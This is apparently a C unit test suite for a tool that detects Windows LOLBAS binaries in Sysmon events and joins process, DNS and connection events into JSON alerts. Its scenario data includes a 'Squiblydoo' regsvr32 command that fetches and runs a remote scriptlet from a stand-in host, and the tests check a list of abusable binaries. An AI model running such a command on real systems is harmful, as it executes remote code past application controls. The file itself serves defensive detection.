/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <check.h>
#include <errno.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "buf.h"
#include "err.h"
#include "event.h"
#include "harness.h"
#include "lolbas.h"
#include "store.h"

#define SCENARIO "regsvr32/regsvr32_squiblydoo.xml"
#define CMD "regsvr32 /s /n /u /i:http://payload.example.net/file.sct scrobj.dll"

static struct lolbas *
load_list(void)
{
	char path[4096];
	const char *top = getenv("top_srcdir");
	struct lolbas *lb = NULL;

	snprintf(path, sizeof(path), "%s/data/lolbas.txt", top ? top : "..");
	ck_assert_int_eq(lolbas_load(path, &lb), CD_EOK);
	return lb;
}

/* The scenario's three events: [0] EID 1, [1] EID 22, [2] EID 3. */
static void
load_scenario(struct event *ev[3])
{
	size_t len, n = 0;
	char *text = harness_read_data(SCENARIO, &len), *line, *nl;

	for (line = text; line < text + len && n < 3; line = nl + 1) {
		nl = memchr(line, '\n', (size_t)(text + len - line));
		ck_assert_ptr_nonnull(nl);
		ck_assert_int_eq(event_parse(line, (size_t)(nl - line), &ev[n]), CD_EOK);
		ck_assert(!ev[n]->malformed);
		n++;
	}
	ck_assert_uint_eq(n, 3);
	ck_assert_uint_eq(ev[0]->event_id, 1);
	ck_assert_uint_eq(ev[1]->event_id, 22);
	ck_assert_uint_eq(ev[2]->event_id, 3);
	free(text);
}

static void
free_scenario(struct event *ev[3])
{
	for (int i = 0; i < 3; i++)
		event_free(ev[i]);
}

static json_t *
parse_alert(const struct buf *b)
{
	json_error_t e;
	json_t *j = json_loadb((const char *)b->data, b->len, 0, &e);

	ck_assert_msg(j != NULL, "bad JSON: %s: %s", e.text, b->data);
	return j;
}

static const char *
jstr(json_t *o, const char *k)
{
	json_t *v = json_object_get(o, k);

	ck_assert_msg(v != NULL, "missing %s", k);
	return json_is_null(v) ? NULL : json_string_value(v);
}

START_TEST(test_list)
{
	struct lolbas *lb = load_list();

	ck_assert(lolbas_is_listed(lb, "C:\\Windows\\System32\\regsvr32.exe"));
	ck_assert(lolbas_is_listed(lb, "C:\\WINDOWS\\SysWOW64\\REGSVR32.EXE"));
	ck_assert(lolbas_is_listed(lb, "certutil.exe"));
	ck_assert(lolbas_is_listed(lb, "C:\\Windows\\System32\\mshta.exe"));
	ck_assert(lolbas_is_listed(lb, "C:/Windows/System32/rundll32.exe"));
	ck_assert(lolbas_is_listed(lb, "C:\\Windows\\System32\\bitsadmin.exe"));
	ck_assert(!lolbas_is_listed(lb, "C:\\Windows\\System32\\svchost.exe"));
	ck_assert(!lolbas_is_listed(lb, "C:\\Windows\\System32\\regsvr32.exe.bak"));
	ck_assert(!lolbas_is_listed(lb, "<unknown process>"));
	ck_assert(!lolbas_is_listed(lb, NULL));
	lolbas_free(lb);
	lolbas_free(NULL);
}
END_TEST

START_TEST(test_list_errors)
{
	char *dir = harness_mkdtemp();
	char path[4096];
	struct lolbas *lb = NULL;
	FILE *f;

	snprintf(path, sizeof(path), "%s/missing.txt", dir);
	ck_assert_int_eq(lolbas_load(path, &lb), -ENOENT);
	snprintf(path, sizeof(path), "%s/empty.txt", dir);
	ck_assert_ptr_nonnull(f = fopen(path, "w"));
	fputs("# only a comment\n\n", f);
	fclose(f);
	ck_assert_int_eq(lolbas_load(path, &lb), CD_ECONFIG);
	ck_assert_ptr_null(lb);
	snprintf(path, sizeof(path), "%s/path.txt", dir);
	ck_assert_ptr_nonnull(f = fopen(path, "w"));
	fputs("C:\\Windows\\regsvr32.exe\n", f);
	fclose(f);
	ck_assert_int_eq(lolbas_load(path, &lb), CD_ECONFIG);
	harness_rmdir_rf(dir);
	free(dir);
}
END_TEST

/* Event 1 in one batch, 22 and 3 in a later one: both alerts carry the
 * process creation's command line and parent. */
START_TEST(test_scenario_alerts)
{
	struct lolbas *lb = load_list();
	struct event *ev[3];
	struct buf b;
	json_t *j;

	load_scenario(ev);
	buf_init(&b, 0);
	/* Batch 1: the process creation; it is no alert by itself. */
	lolbas_observe(lb, ev[0]);
	ck_assert_int_eq(lolbas_check(lb, ev[0], false, &b), 0);
	ck_assert_uint_eq(b.len, 0);
	ck_assert_uint_eq(lolbas_cache_count(lb), 1);

	/* Batch 2: the DNS query, domain new to the fleet: high. */
	ck_assert_int_eq(lolbas_check(lb, ev[1], true, &b), 1);
	j = parse_alert(&b);
	ck_assert_str_eq(jstr(j, "type"), "lolbas_alert");
	ck_assert_str_eq(jstr(j, "severity"), "high");
	ck_assert_str_eq(jstr(j, "host"), "ws07.corp.example.org");
	ck_assert_int_eq(json_integer_value(json_object_get(j, "event_id")), 22);
	ck_assert_str_eq(jstr(j, "image"), "C:\\Windows\\System32\\regsvr32.exe");
	ck_assert_str_eq(jstr(j, "lolbas"), "regsvr32.exe");
	ck_assert_str_eq(jstr(j, "query_name"), "payload.example.net");
	ck_assert_str_eq(jstr(j, "utc_time"), "2024-03-12 09:41:07.402");
	ck_assert_str_eq(jstr(j, "command_line"), CMD);
	ck_assert_str_eq(jstr(j, "parent_image"), "C:\\Windows\\System32\\cmd.exe");
	ck_assert_str_eq(jstr(j, "parent_command_line"),
	    "\"C:\\Windows\\system32\\cmd.exe\" /c " CMD);
	ck_assert_str_eq(jstr(j, "process_utc_time"), "2024-03-12 09:41:07.215");
	ck_assert_str_eq(jstr(j, "user"), "CORP\\alice");
	json_decref(j);

	/* The connection, domain already known: medium. */
	buf_reset(&b);
	ck_assert_int_eq(lolbas_check(lb, ev[2], false, &b), 1);
	j = parse_alert(&b);
	ck_assert_str_eq(jstr(j, "severity"), "medium");
	ck_assert_int_eq(json_integer_value(json_object_get(j, "event_id")), 3);
	ck_assert_str_eq(jstr(j, "destination_ip"), "203.0.113.45");
	ck_assert_int_eq(json_integer_value(json_object_get(j, "destination_port")), 80);
	ck_assert_str_eq(jstr(j, "protocol"), "tcp");
	ck_assert_str_eq(jstr(j, "command_line"), CMD);
	ck_assert_ptr_null(json_object_get(j, "query_name"));
	json_decref(j);

	/* The list's spelling whatever the path's case. */
	for (size_t i = 0; i < ev[2]->ndata; i++) {
		if (strcmp(ev[2]->data[i].name, "Image") == 0) {
			ck_assert_int_eq(event_set(ev[2], &ev[2]->data[i].value,
			    "C:\\WINDOWS\\SysWOW64\\REGSVR32.EXE"), CD_EOK);
		}
	}
	buf_reset(&b);
	ck_assert_int_eq(lolbas_check(lb, ev[2], false, &b), 1);
	j = parse_alert(&b);
	ck_assert_str_eq(jstr(j, "lolbas"), "regsvr32.exe");
	ck_assert_str_eq(jstr(j, "image"), "C:\\WINDOWS\\SysWOW64\\REGSVR32.EXE");
	json_decref(j);

	/* Another host with the same ProcessGuid is another process. */
	ck_assert_int_eq(event_set(ev[1], &ev[1]->computer,
	    "OTHER.corp.example.org"), CD_EOK);
	buf_reset(&b);
	ck_assert_int_eq(lolbas_check(lb, ev[1], false, &b), 1);
	j = parse_alert(&b);
	ck_assert_ptr_null(jstr(j, "command_line"));
	ck_assert_ptr_null(jstr(j, "parent_image"));
	json_decref(j);

	buf_free(&b);
	free_scenario(ev);
	lolbas_free(lb);
}
END_TEST

START_TEST(test_not_lolbas)
{
	struct lolbas *lb = load_list();
	struct event *ev[3];
	struct buf b;

	load_scenario(ev);
	buf_init(&b, 0);
	for (size_t i = 0; i < ev[1]->ndata; i++) {
		if (strcmp(ev[1]->data[i].name, "Image") == 0) {
			ck_assert_int_eq(event_set(ev[1], &ev[1]->data[i].value,
			    "C:\\Windows\\System32\\svchost.exe"), CD_EOK);
		}
	}
	ck_assert_int_eq(lolbas_check(lb, ev[1], true, &b), 0);
	ck_assert_uint_eq(b.len, 0);
	/* Not a Sysmon event: ignored even with a listed image. */
	ck_assert_int_eq(event_set(ev[2], &ev[2]->provider,
	    "Some-Other-Provider"), CD_EOK);
	ck_assert_int_eq(lolbas_check(lb, ev[2], true, &b), 0);
	buf_free(&b);
	free_scenario(ev);
	lolbas_free(lb);
}
END_TEST

/* Set the ProcessGuid of an event (the value is replaced). */
static void
set_guid(struct event *ev, const char *guid)
{
	for (size_t i = 0; i < ev->ndata; i++) {
		if (strcmp(ev->data[i].name, "ProcessGuid") == 0) {
			ck_assert_int_eq(event_set(ev, &ev->data[i].value, guid),
			    CD_EOK);
		}
	}
}

static bool
joined(struct lolbas *lb, struct event *q)
{
	struct buf b;
	json_t *j;
	bool known;

	buf_init(&b, 0);
	ck_assert_int_eq(lolbas_check(lb, q, false, &b), 1);
	j = parse_alert(&b);
	known = jstr(j, "command_line") != NULL;
	json_decref(j);
	buf_free(&b);
	return known;
}

START_TEST(test_lru_bound)
{
	struct lolbas *lb = load_list();
	struct event *ev[3];

	load_scenario(ev);
	lolbas_set_cache_size(lb, 2);
	set_guid(ev[0], "{a}");
	lolbas_observe(lb, ev[0]);
	set_guid(ev[0], "{b}");
	lolbas_observe(lb, ev[0]);
	/* Touch {a}: {b} becomes the least recently used. */
	set_guid(ev[1], "{A}");
	ck_assert(joined(lb, ev[1]));
	set_guid(ev[0], "{c}");
	lolbas_observe(lb, ev[0]);
	ck_assert_uint_eq(lolbas_cache_count(lb), 2);
	set_guid(ev[1], "{b}");
	ck_assert(!joined(lb, ev[1]));
	set_guid(ev[1], "{a}");
	ck_assert(joined(lb, ev[1]));
	set_guid(ev[1], "{c}");
	ck_assert(joined(lb, ev[1]));
	lolbas_set_cache_size(lb, 1);
	ck_assert_uint_eq(lolbas_cache_count(lb), 1);
	free_scenario(ev);
	lolbas_free(lb);
}
END_TEST

static int
put_proc(struct store_txn *txn, void *arg)
{
	return lolbas_proc_put(txn, arg);
}

/* After a restart the in-memory cache is empty; the store remembers. */
START_TEST(test_store_persistence)
{
	char *dir = NULL;
	struct store *st = harness_store_open(&dir);
	struct store_txn *txn;
	struct lolbas_proc *p = NULL;
	struct lolbas *lb;
	struct event *ev[3];

	load_scenario(ev);
	ck_assert_int_eq(store_run(st, put_proc, ev[0]), CD_EOK);
	/* Other events are a no-op. */
	ck_assert_int_eq(store_run(st, put_proc, ev[1]), CD_EOK);

	ck_assert_int_eq(store_read_begin(st, &txn), CD_EOK);
	ck_assert_int_eq(lolbas_proc_get(txn, "ws07.CORP.example.org",
	    "{6C1D2E3F-4A5B-6601-9C02-000000001D00}", &p), CD_EOK);
	ck_assert_str_eq(p->command_line, CMD);
	ck_assert_str_eq(p->parent_image, "C:\\Windows\\System32\\cmd.exe");
	ck_assert_str_eq(p->image, "C:\\Windows\\System32\\regsvr32.exe");
	lolbas_proc_free(p);
	ck_assert_int_eq(lolbas_proc_get(txn, "ws07.corp.example.org", "{x}", &p),
	    CD_ENOTFOUND);
	ck_assert_ptr_null(p);
	store_read_end(txn);

	lb = load_list();
	ck_assert(!joined(lb, ev[1]));
	lolbas_set_store(lb, st);
	ck_assert(joined(lb, ev[1]));
	/* The store hit refilled the cache. */
	ck_assert_uint_eq(lolbas_cache_count(lb), 1);
	lolbas_set_store(lb, NULL);
	ck_assert(joined(lb, ev[2]));
	lolbas_free(lb);

	harness_store_close(st, dir);
	free_scenario(ev);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("lolbas");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, test_list);
	tcase_add_test(tc, test_list_errors);
	tcase_add_test(tc, test_scenario_alerts);
	tcase_add_test(tc, test_not_lolbas);
	tcase_add_test(tc, test_lru_bound);
	tcase_add_test(tc, test_store_persistence);
	suite_add_tcase(s, tc);
	return harness_run(s);
}
